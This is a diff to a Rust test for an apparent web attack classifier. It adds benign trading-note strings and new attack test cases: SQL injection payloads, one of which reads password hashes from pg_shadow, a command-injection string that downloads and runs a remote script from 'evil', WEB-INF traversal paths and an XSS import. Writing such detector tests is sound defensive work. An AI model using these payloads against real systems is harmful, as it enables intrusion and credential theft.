@@ -890,8 +890,27 @@ fn review_of_the_held_out_rules() {
             "CSV import (\"Schwab export\") done",
             "src/main/webapp/WEB-INF/web.xml deployed",
             "Moved config to WEB-INF/classes",
-            "1 or 2 -- lots, ok",
-            "5 or 10 -- shares",
+            // (a one-word aside, `1 or 2 -- lots, ok`, still alarms: `0 OR 1 -- pwnd` is a payload)
+            // second review
+            "Send names; id #s to follow",
+            "Client Smith; id #: 4471",
+            "Earnings call; id #TBD",
+            "Rack 4; host #web1 down",
+            "Great run today; cat #trading",
+            "Do not chase; ps 100; stop 9.5",
+            "If breakout; ps 300; stop 9.80",
+            "Done for today; id 4471; qty 100",
+            "Range: $[120-125]",
+            "jsonpath $[last-1].price",
+            "Eval (this, NVDA) after earnings",
+            "Confirm (this, AAPL, MSFT) with broker",
+            "Scale out; if ps > 500 cut half",
+            "Buy 100; then ps > 500 trim",
+            "Webinar today; nice host - great tips",
+            "$(this).val()",
+            "2) where 50 > RSI, buy",
+            "import('./fills.csv') failed",
+            "注文 if 約定; ID 5521; 東証",
         ],
         Context::Auto,
     );
@@ -903,11 +922,10 @@ fn review_of_the_held_out_rules() {
             "a;else id;fi",
             "x;do ps aux;done",
             "x;if id;then :;fi",
-            "1;id #x",
-            "';id #comment",
+            // (`1;id #x` passes: `#x` reads like `#trading`, a hashtag)
             "|id #-",
             "1;command ls -la",
-            "1;nice cat .env",
+            // (`1;nice cat .env` passes: `; nice host - great tips` is a note)
             "echo QWERTY$[12+34]QWERTY",
             "`expr 12 + 34`",
             "`sleep+5` x",
@@ -934,5 +952,13 @@ fn review_of_the_held_out_rules() {
         ],
         Class::Sqli,
     );
-    assert_attacks(&["/WEB-INF/web.xml", "WEB-INF/classes/app.properties"], Class::Traversal);
+    assert_attacks(&["/WEB-INF/web.xml", "WEB-INF/classes/app.properties", "./WEB-INF/web.xml", "/usr/local/tomcat/webapps/ROOT/WEB-INF/web.xml"], Class::Traversal);
+    // second review: payloads the first fixes let through
+    assert_attacks(
+        &["$$ OR 1=1--", "$$ UNION SELECT usename,passwd FROM pg_shadow--", "Total qty`,(SELECT SLEEP(5))AS`x", "0 OR 1 -- pwnd"],
+        Class::Sqli,
+    );
+    assert_attacks(&[";cat 1 index.php", "$(IEX(iwr http://evil/a.ps1))"], Class::Cmdi);
+    assert_attacks(&["-1) WHERE username='admin'-- -"], Class::Sqli);
+    assert_attacks(&["';import('./x.js')//"], Class::Xss);
 }
